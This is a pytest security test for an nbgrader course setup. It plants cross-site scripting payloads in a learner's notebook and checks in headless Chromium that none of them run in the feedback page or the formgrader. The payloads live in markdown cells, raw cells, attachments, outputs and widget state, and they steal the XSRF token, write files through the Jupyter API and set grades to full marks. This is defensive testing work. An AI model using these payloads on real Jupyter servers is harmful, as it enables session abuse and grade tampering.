"""Nothing a learner writes is live in a page the course renders (issue 21, point 1).

One real ``nbgrader autograde`` and ``generate_feedback`` of a beginner submission that carries
script in every place a learner controls: markdown cells (``<script>``, ``<img onerror>``, a
``javascript:`` link, ``<iframe srcdoc>``, ``<svg onload>``), an instructor's markdown cell with a
script appended, a raw HTML cell, attachments (an SVG with a script, an HTML page). Outputs cannot
come from a submission (autograde clears them, and learner code runs where it has no display), so
the grading kernel's outputs are what they are; to test that the pages would still not run what an
output carried, the test puts outputs of every risky kind into the autograded notebook before the
pages are rendered: ``text/html``, ``image/svg+xml``, ``application/javascript``, ``text/markdown``,
a widget view (with widget state in the notebook's metadata) and a PNG whose metadata smuggles an
attribute.

Each payload, if it runs, records itself in ``window.__xss``, calls a recording server on
127.0.0.1, writes a file through the Jupyter contents API and sets every grade of the submission to
full marks through the formgrader's API, all in the instructor's session. Headless Chromium opens,
as the instructor of a real Jupyter server with the formgrader, the feedback page (as a file, as
it is handed out; then again rendered with the sanitizer switched off, where the page's own
Content-Security-Policy is the only defence) and the formgrader's submission view; then
nothing was recorded, no file was written, the gradebook is unchanged, the learner's heading, bold
text and PNG images are shown, and the formgrader still grades (its own scripts run under the policy).
"""

from __future__ import annotations

import base64
import http.server
import threading
from pathlib import Path

import nbformat
import pytest

from course_tools import nbgrader
from course_tools.temp_course import make_course, submit
from tests.browser_support import LabServer, launch_chromium

pytestmark = [pytest.mark.browser, pytest.mark.grading]

DEPTH, NAME, STUDENT = "beginner", "03_exercises", "mallory"
PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAgAAAAICAIAAABLbSncAAAAEklEQVR4nGP4z8CAFWEXHbQSACj/P8Fu7N9hAAAAAElF"
       "TkSuQmCC")  # an 8x8 red square


def payload_js(name: str, recorder: str) -> str:
    """What every payload tries, in the page's session."""
    return ("(function(n){var w=window;try{top.__xss=(top.__xss||[]).concat([n])}catch(e){}"
            "w.__xss=(w.__xss||[]).concat([n]);"
            f"var R='{recorder}/';try{{new Image().src=R+'img/'+n}}catch(e){{}}"
            "try{fetch(R+'fetch/'+n,{mode:'no-cors'}).catch(function(){})}catch(e){}"
            "var x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||'';"
            "var h={'X-XSRFToken':decodeURIComponent(x),'Content-Type':'application/json'};"
            "fetch('/api/contents/pwned_'+n+'.txt',{method:'PUT',credentials:'same-origin',headers:h,"
            "body:JSON.stringify({type:'file',format:'text',content:n})}).catch(function(){});"
            "var s=w.submission_id;try{s=s||top.submission_id}catch(e){}"
            "if(s){fetch('/formgrader/api/grades?submission_id='+s,{credentials:'same-origin'})"
            ".then(function(r){return r.json()}).then(function(g){g.forEach(function(q){"
            "q.manual_score=q.max_score;fetch('/formgrader/api/grade/'+q.id,{method:'PUT',"
            "credentials:'same-origin',headers:h,body:JSON.stringify(q)})})}).catch(function(){})}"
            f"}})('{name}')")


def run(name: str, recorder: str) -> str:
    """A payload as an attribute value: no quotes to escape."""
    return "eval(atob('" + base64.b64encode(payload_js(name, recorder).encode()).decode() + "'))"


def attack_cells(recorder: str) -> list:
    r = lambda n: run(n, recorder)  # noqa: E731
    md = nbformat.v4.new_markdown_cell
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{r("attachment-svg")}">'
           f'<script>{payload_js("attachment-svg-script", recorder)}</script></svg>')
    page = f'<script>{payload_js("attachment-html", recorder)}</script>'
    with_files = md("![a drawing](attachment:evil.svg) [my page](attachment:evil.html) "
                    "![my dot](attachment:dot.png)")
    with_files.attachments = {"evil.svg": {"image/svg+xml": base64.b64encode(svg.encode()).decode()},
                              "evil.html": {"text/html": base64.b64encode(page.encode()).decode()},
                              "dot.png": {"image/png": PNG}}
    raw = nbformat.v4.new_raw_cell(f'<script>{payload_js("raw-script", recorder)}</script>'
                                   f'<img src="x" onerror="{r("raw-img")}">',
                                   metadata={"raw_mimetype": "text/html"})
    return [
        md("# Mallory's notes\n\nThis is **bold text**, a list:\n\n- one `code` item\n\n"
           "and math $x^2 + 1$."),
        md(f"<script>{payload_js('md-script', recorder)}</script>"),
        md(f'<img src="x" onerror="{r("md-img-onerror")}">'),
        md(f"[click me](javascript:{r('md-javascript-link')})"),
        md(f'<iframe srcdoc="<script>{r("md-iframe-srcdoc")}</script>"></iframe>'),
        md(f'<svg onload="{r("md-svg-onload")}"><circle r="5"/></svg>'),
        raw, with_files]


def attack_outputs(recorder: str) -> list:
    """Outputs that an execution could leave (see the module's docstring)."""
    r = lambda n: run(n, recorder)  # noqa: E731
    out = nbformat.v4.new_output
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{r("out-svg")}" width="10" height="10">'
           f'<script>{payload_js("out-svg-script", recorder)}</script></svg>')
    return [
        out("display_data", {"text/html": f'<script>{payload_js("out-html-script", recorder)}</script>'
                             f'<img src="x" onerror="{r("out-html-img")}">'}),
        out("display_data", {"image/svg+xml": svg}),
        out("display_data", {"application/javascript": payload_js("out-javascript", recorder)}),
        out("display_data", {"text/markdown": f'<img src="x" onerror="{r("out-markdown")}">'}),
        out("display_data", {"application/vnd.jupyter.widget-view+json":
                             {"model_id": "evil", "version_major": 2, "version_minor": 0}}),
        out("display_data", {"image/png": PNG},
            metadata={"image/png": {"width": f"8 onload={r('out-png-metadata')}"}}),
    ]


def widget_state(recorder: str) -> dict:
    html = f'<img src="x" onerror="{run("widget-state", recorder)}">'
    return {"application/vnd.jupyter.widget-state+json": {"version_major": 2, "version_minor": 0, "state": {
        "evil": {"model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls",
                 "model_module_version": "2.0.0", "state": {"value": html}}}}}


class Recorder(http.server.ThreadingHTTPServer):
    """Every request a payload makes to 127.0.0.1 (an image, a fetch), by path."""

    def __init__(self):
        self.hits: list[str] = []
        recorder = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                recorder.hits.append(self.path)
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            def log_message(self, *args):
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server_address[1]}"


def grades(course: Path) -> dict:
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course}/gradebook.db") as gb:
        sub = gb.find_submission_notebook(NAME, DEPTH, STUDENT)
        return {"id": sub.id, **{g.name: (g.auto_score, g.manual_score) for g in sub.grades},
                **{f"comment:{c.name}": c.manual_comment for c in sub.comments}}


def page_report(page) -> dict:
    """What ran and what shows, read from the live page and each of its frames."""
    ran = []
    for frame in page.frames:
        try:
            ran += frame.evaluate("() => window.__xss || []")
        except Exception:  # noqa: BLE001 - a frame that is gone ran nothing more
            pass
    shown = page.evaluate("""() => ({
      heading: [...document.querySelectorAll('h1')].some(h => h.textContent.includes("Mallory's notes")),
      bold: [...document.querySelectorAll('strong, b')].some(b => b.textContent === 'bold text'),
      math: document.body.textContent.includes('x^2 + 1'),
      pngs: [...document.querySelectorAll('img')].filter(i => i.src.startsWith('data:image/png')
                                                           && i.naturalWidth === 8).length,
      instructor: document.body.textContent.includes('Exercises: save once, report the truth'),
    })""")
    return {"ran": ran, **shown}


def settle(page, url: str) -> None:
    """Load ``url`` and wait until its requests are over (what a payload sends goes first)."""
    page.goto(url, wait_until="networkidle", timeout=120_000)
    link = page.locator("a", has_text="click me")
    if link.count():
        link.first.click()
        page.wait_for_load_state("networkidle")


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("xss")
    recorder = Recorder()
    threading.Thread(target=recorder.serve_forever, daemon=True).start()
    try:
        course = make_course(tmp, [DEPTH])
        path = submit(course, STUDENT, DEPTH, f"{NAME}.ipynb", {})
        nb = nbformat.read(path, as_version=4)
        nb.cells[0].source += f"\n\n<script>{payload_js('md-edited-instructor-cell', recorder.url)}</script>"
        nb.cells[1:1] = attack_cells(recorder.url)
        nbformat.write(nb, path)
        nbgrader("autograde", DEPTH, "--force", cwd=course, timeout=600)
        autograded = course / "autograded" / STUDENT / DEPTH / f"{NAME}.ipynb"
        nb = nbformat.read(autograded, as_version=4)
        answer = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution"))
        answer.outputs = attack_outputs(recorder.url) + answer.get("outputs", [])
        nb.metadata["widgets"] = widget_state(recorder.url)
        nbformat.write(nb, autograded)
        nbgrader("generate_feedback", DEPTH, "--force", cwd=course, timeout=300)
        yield {"course": course, "tmp": tmp, "recorder": recorder}
    finally:
        recorder.shutdown()
        recorder.server_close()


def test_no_learner_payload_runs_in_feedback_or_formgrader(graded, tmp_path_factory, playwright):
    course, tmp, recorder = graded["course"], graded["tmp"], graded["recorder"]
    feedback = course / "feedback" / STUDENT / DEPTH / f"{NAME}.html"
    before = grades(course)
    reports, policies = {}, {}
    with LabServer(course, tmp / "state", exchange=tmp / "exchange") as lab:
        browser = launch_chromium(playwright, tmp / "chromium-home")
        try:
            page = browser.new_context().new_page()
            page.goto(f"{lab.url}/formgrader?token={lab.token}", wait_until="networkidle")
            for name, url in [
                ("feedback page", feedback.as_uri()),
                ("formgrader submission view", f"{lab.url}/formgrader/submissions/{before['id']}/"),
            ]:
                settle(page, url)
                reports[name] = page_report(page)
            policies = {"own scripts ran": page.evaluate(
                "() => typeof submission_id === 'string' && typeof Backbone === 'object'")}
            after = grades(course)
            written = sorted(p.name for p in course.rglob("pwned_*"))
            # The instructor still grades through the page: its own scripts run under the policy.
            # the glyph shows while the save is still on its way: wait for the server's answer
            with page.expect_response(lambda r: "/api/grade/" in r.url and r.request.method == "PUT",
                                      timeout=60_000) as saved:
                page.locator("button.full-credit").first.click()
            assert saved.value.ok, f"the formgrader's save answered {saved.value.status}"
            graded_by_hand = [k for k, v in grades(course).items() if isinstance(v, tuple) and v[1] is not None]
            # The policy alone: the feedback page rendered with the sanitizer switched off, from disk.
            nbgrader("generate_feedback", DEPTH, "--force", "--HTMLExporter.preprocessors=[]",
                     cwd=course, timeout=300)
            settle(page, feedback.as_uri())
            reports["feedback from disk, unsanitized (policy only)"] = page_report(page)
        finally:
            browser.close()
    hits_total = list(recorder.hits)
    for name, report in reports.items():
        assert not report["ran"], f"{name}: payloads ran: {report['ran']}"
    assert not hits_total, f"payloads reached the recording server: {hits_total}"
    assert not written, f"payloads wrote files through the instructor's session: {written}"
    assert after == before, f"the gradebook changed while the instructor only looked: {before} -> {after}"
    for name in ("feedback page", "formgrader submission view"):
        r = reports[name]
        assert r["heading"] and r["bold"] and r["math"] and r["instructor"], f"{name}: {r}"
        assert r["pngs"] >= 2, f"{name}: the learner's PNG output and attachment are not both shown: {r}"
    assert policies["own scripts ran"], "the formgrader's own scripts did not run under the policy"
    assert graded_by_hand, "clicking 'Full credit' in the formgrader did not reach the gradebook"
